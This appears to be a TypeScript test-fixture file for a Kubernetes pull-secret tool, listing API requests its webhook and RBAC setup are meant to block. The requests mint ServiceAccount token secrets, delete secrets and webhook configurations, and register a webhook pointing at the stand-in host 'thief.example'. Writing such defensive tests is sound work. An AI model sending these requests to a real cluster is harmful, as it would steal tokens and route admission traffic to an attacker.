import { PRODUCT_NAME } from '@ecr-pull-secrets/shared/names.ts';
import { CONFIGURATION } from '../ca.ts';
import { pathOf } from '../pull-secret.ts';
import { apply, applyWebhook, type Attack, PLACES, secret, tokenOf } from './attack.ts';

const SECRETS = `/api/v1/namespaces/${PLACES.account}/secrets`;
const CONFIGURATIONS = CONFIGURATION.slice(0, CONFIGURATION.lastIndexOf('/'));
const ONLY_OURS = { fieldSelector: `metadata.name=${PRODUCT_NAME}` };

/** What RBAC refuses by itself; done by the same identity with all rights to secrets and configurations. */
export const WITH_MORE_RIGHTS: readonly Attack[] = [
  [
    'posts a secret for the token of any ServiceAccount',
    { method: 'POST', path: `/api/v1/namespaces/${PLACES.empty}/secrets`, body: tokenOf('any') },
  ],
  ['updates an existing one', { method: 'PUT', path: pathOf(PLACES.account), body: tokenOf('other') }],
  ['deletes a secret that is no pull secret', { method: 'DELETE', path: pathOf(PLACES.account) }],
  ['deletes it with its whole collection', { method: 'DELETE', path: SECRETS }],
  ...['ca', 'tokens'].flatMap((end): readonly Attack[] => {
    const name = `${PRODUCT_NAME}-${end}`;
    return [
      [`makes ${name} in another namespace`, apply(pathOf(PLACES.served, name), secret({ type: 'Opaque' }, name))],
      [
        `makes ${name} a secret for a token in another namespace`,
        apply(pathOf(PLACES.empty, name), tokenOf('any', name)),
      ],
    ];
  }),
  ['deletes the webhook configuration', { method: 'DELETE', path: CONFIGURATION }],
  ['deletes it with the whole collection', { method: 'DELETE', path: CONFIGURATIONS, query: ONLY_OURS }],
];

/** The same, in place of the Secrets that a CronJob has no use for. */
export const OWN_SECRETS_ATTACKS: readonly Attack[] = ['ca', 'tokens'].map((end) => {
  const name = `${PRODUCT_NAME}-${end}`;
  return [
    `makes ${name} a secret for a token in the release's own namespace`,
    apply(pathOf(PRODUCT_NAME, name), tokenOf(PRODUCT_NAME, name)),
  ];
});

/** Creates a webhook configuration of our name, if there is none. */
export const NEW_CONFIGURATION: Attack = [
  'creates the webhook configuration',
  applyWebhook({
    admissionReviewVersions: ['v1'],
    sideEffects: 'None',
    clientConfig: { url: 'https://thief.example' },
  }),
];
